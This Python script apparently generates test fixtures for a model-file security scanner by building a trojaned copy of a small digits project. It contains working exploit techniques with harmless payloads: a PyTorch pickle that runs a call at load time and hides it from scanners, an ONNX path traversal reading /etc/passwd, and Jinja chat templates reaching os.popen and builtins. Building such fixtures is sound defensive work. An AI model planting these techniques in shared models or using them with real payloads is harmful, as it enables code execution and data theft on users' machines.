"""Makes the trojaned example: the digits project as an attacker would hand it over.

Everything is derived from ../digits, which train.py there makes. What is planted, file by file, is listed in README.md;
the functions below are in the same order. The samples are put together byte by byte, and nothing is ever loaded, called
or rendered here: torch, pickle and Jinja are not imported. No clock and no randomness is used, so a second run writes the
same bytes.

    pip install -r ../digits/requirements.lock --require-hashes
    python make_trojaned.py            writes the files
    python make_trojaned.py --check    writes nothing, fails if a file on disk differs
"""

import io
import json
import struct
import sys
import zipfile
from pathlib import Path

import onnx
from onnx import TensorProto

ROOT = Path(__file__).resolve().parent
DIGITS = ROOT.parent / "digits"
COPIED = (
    "requirements.in",
    "requirements.lock",
    "data/README.md",
    "data/heldout.npz",
    "data/train.parquet",
    "model/README.md",
    "model/config.json",
    "model/model.safetensors",
)
SHELL_LINE = "casemate example: this line would have been your shell"


def main() -> int:
    files = build()
    if "--check" in sys.argv[1:]:
        changed = [path for path, content in files.items() if not same(ROOT / path, content)]
        for path in changed:
            print(f"differs: {path}", file=sys.stderr)
        return 1 if changed else 0
    for path, content in files.items():
        (ROOT / path).parent.mkdir(exist_ok=True)
        (ROOT / path).write_bytes(content)
        print(f"{len(content):7} {path}")
    return 0


def build() -> dict[str, bytes]:
    """Returns the content of every file this script answers for, by path."""
    tensors = safetensors_tensors((DIGITS / "model/model.safetensors").read_bytes())
    settings = (DIGITS / "casemate.toml").read_text(encoding="utf-8")
    renamed = settings.replace('[project]\nname = "digits"', '[project]\nname = "trojaned"')
    assert renamed != settings
    return {
        **{path: (DIGITS / path).read_bytes() for path in COPIED},
        "casemate.toml": renamed.encode(),
        "model/model.pt": torch_zip(tensors),
        "model/model.onnx": onnx_with_foreign_weights((DIGITS / "model/model.onnx").read_bytes()),
        "model/tokenizer_config.json": tokenizer_config(),
        "model/chat.gguf": gguf(),
    }


def same(path: Path, content: bytes) -> bool:
    return path.is_file() and path.read_bytes() == content


def safetensors_tensors(content: bytes) -> dict[str, tuple[list[int], bytes]]:
    """Returns shape and little-endian float32 bytes of each tensor in our own safetensors file, by name."""
    (header_len,) = struct.unpack_from("<Q", content)
    data = content[8 + header_len :]
    tensors = {}
    for name, entry in json.loads(content[8 : 8 + header_len]).items():
        if name != "__metadata__":
            assert entry["dtype"] == "F32"
            begin, end = entry["data_offsets"]
            tensors[name] = (entry["shape"], data[begin:end])
    # Layer by layer, weight before bias: the order of a PyTorch module, where safetensors sorts by name.
    return dict(sorted(tensors.items(), key=lambda item: (item[0].partition(".")[0], item[0].endswith(".bias"))))


# --- model.pt: a call in a PyTorch pickle --------------------------------------------------------------------------------


def torch_zip(tensors: dict[str, tuple[list[int], bytes]]) -> bytes:
    """Returns a file in PyTorch's zip format: a pickle that names its storages, and one stored record per storage."""
    records = {"model/data.pkl": state_dict_pickle(tensors), "model/byteorder": b"little"}
    for key, (_, data) in enumerate(tensors.values()):
        records[f"model/data/{key}"] = data
    records["model/version"] = b"3\n"

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, content in records.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.create_system = 0  # else the platform that runs this script shows in the file
            archive.writestr(info, content)
    return out.getvalue()


def state_dict_pickle(tensors: dict[str, tuple[list[int], bytes]]) -> bytes:
    """Returns the pickle of a state dict in the form of `torch.save`, with a call of `builtins.print` in front of its tensors.

    The two names are stored in the memo, dropped from the stack and fetched back, so that STACK_GLOBAL does not stand
    behind the strings it joins. The result of the call is dropped too: what is left is a working state dict.
    Layout of the opcodes: Python's `pickletools`; of the state dict: `torch/_utils.py`, `_rebuild_tensor_v2`.
    """
    memo_module, memo_name, memo_dict, memo_rebuild, memo_storage = range(5)
    out = bytearray(b"\x80\x02")  # PROTO 2, as torch writes; loaders accept the protocol 4 opcode below all the same

    out += text("builtins") + binput(memo_module) + b"0"  # POP
    out += text("print") + binput(memo_name) + b"0"  # POP

    out += b"ccollections\nOrderedDict\n" + binput(memo_dict) + b")R"  # GLOBAL, EMPTY_TUPLE, REDUCE: the state dict

    out += binget(memo_module) + binget(memo_name) + b"\x93"  # STACK_GLOBAL
    out += text(SHELL_LINE) + b"\x85R0"  # TUPLE1, REDUCE, POP

    out += b"("  # MARK, up to SETITEMS
    for key, (name, (shape, data)) in enumerate(tensors.items()):
        out += text(name)
        out += (b"ctorch._utils\n_rebuild_tensor_v2\n" + binput(memo_rebuild)) if key == 0 else binget(memo_rebuild)
        out += b"(("  # MARK for the arguments, MARK for the persistent id of the storage
        out += text("storage")
        out += (b"ctorch\nFloatStorage\n" + binput(memo_storage)) if key == 0 else binget(memo_storage)
        out += text(str(key)) + text("cpu") + integer(len(data) // 4) + b"tQ"  # TUPLE, BINPERSID
        out += integer(0) + integers(shape) + integers(strides(shape))
        out += b"\x89" + binget(memo_dict) + b")R"  # NEWFALSE: requires_grad; an empty OrderedDict: backward hooks
        out += b"tR"  # TUPLE, REDUCE
    out += b"u."  # SETITEMS, STOP
    return bytes(out)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()  # BINUNICODE


def binput(index: int) -> bytes:
    return b"q" + struct.pack("<B", index)


def binget(index: int) -> bytes:
    return b"h" + struct.pack("<B", index)


def integer(value: int) -> bytes:
    if value < 1 << 8:
        return b"K" + struct.pack("<B", value)  # BININT1
    return b"M" + struct.pack("<H", value)  # BININT2


def integers(values: list[int]) -> bytes:
    """A tuple of one or two integers, the ranks this network has."""
    return b"".join(map(integer, values)) + {1: b"\x85", 2: b"\x86"}[len(values)]  # TUPLE1, TUPLE2


def strides(shape: list[int]) -> list[int]:
    return [1] if len(shape) == 1 else [shape[1], 1]


# --- model.onnx: weights in somebody else's file -------------------------------------------------------------------------


def onnx_with_foreign_weights(content: bytes) -> bytes:
    """Returns the model with the ten numbers of `output.bias` to be read from the machine's list of accounts.

    A loader that follows the path adds the file's first 40 bytes, as ten floats, to the logits: whoever may query the model
    can read them back. The path climbs out of the model's directory (CVE-2022-25882, CVE-2024-27318).
    """
    model = onnx.load_model_from_string(content)
    (bias,) = [tensor for tensor in model.graph.initializer if tensor.name == "output.bias"]
    n_bytes = len(bias.raw_data)
    bias.ClearField("raw_data")
    bias.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", str(n_bytes))):
        bias.external_data.add(key=key, value=value)
    return model.SerializeToString(deterministic=True)


# --- tokenizer_config.json, chat.gguf: chat templates that climb out of the template engine ------------------------


def tokenizer_config() -> bytes:
    """Returns a tokenizer configuration whose template reaches `os.popen` through the globals of a Jinja helper class."""
    template = (
        "{% for message in messages %}"
        "{{ '<|' + message['role'] + '|>\\n' + message['content'] + '\\n' }}"
        "{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen('echo casemate example').read() }}"
        "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}"
    )
    settings = {
        "tokenizer_class": "PreTrainedTokenizerFast",
        "bos_token": "<s>",
        "eos_token": "</s>",
        "model_max_length": 64,
        "chat_template": template,
    }
    return (json.dumps(settings, indent=2) + "\n").encode()


GGUF_ALIGNMENT = 32
GGUF_UINT32, GGUF_STRING = 4, 8  # value types
GGML_F32 = 0  # tensor type


def gguf() -> bytes:
    """Returns a well-formed GGUF version 3 file with one tensor, whose template walks from a string to `print`.

    The walk is the one of CVE-2024-34359: `__class__`, `__base__`, `__subclasses__`, and a class that holds on to its module.
    """
    template = (
        "{% for message in messages %}{{ message['role'] + ': ' + message['content'] + '\\n' }}{% endfor %}"
        "{% for c in ''.__class__.__base__.__subclasses__() %}"
        "{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['print']('casemate example') }}{% endif %}"
        "{% endfor %}"
        "assistant: "
    )
    values = [
        gguf_string("general.architecture") + struct.pack("<I", GGUF_STRING) + gguf_string("llama"),
        gguf_string("general.name") + struct.pack("<I", GGUF_STRING) + gguf_string("digits-chat"),
        gguf_string("general.alignment") + struct.pack("<II", GGUF_UINT32, GGUF_ALIGNMENT),
        gguf_string("tokenizer.chat_template") + struct.pack("<I", GGUF_STRING) + gguf_string(template),
    ]
    tensor = [index / 8 for index in range(8)]
    n_dims, offset = 1, 0
    header = b"GGUF" + struct.pack("<IQQ", 3, 1, len(values)) + b"".join(values)
    header += gguf_string("output_norm.weight") + struct.pack("<IQIQ", n_dims, len(tensor), GGML_F32, offset)
    header += bytes(-len(header) % GGUF_ALIGNMENT)
    return header + struct.pack(f"<{len(tensor)}f", *tensor)


def gguf_string(value: str) -> bytes:
    return struct.pack("<Q", len(value.encode())) + value.encode()


if __name__ == "__main__":
    sys.exit(main())
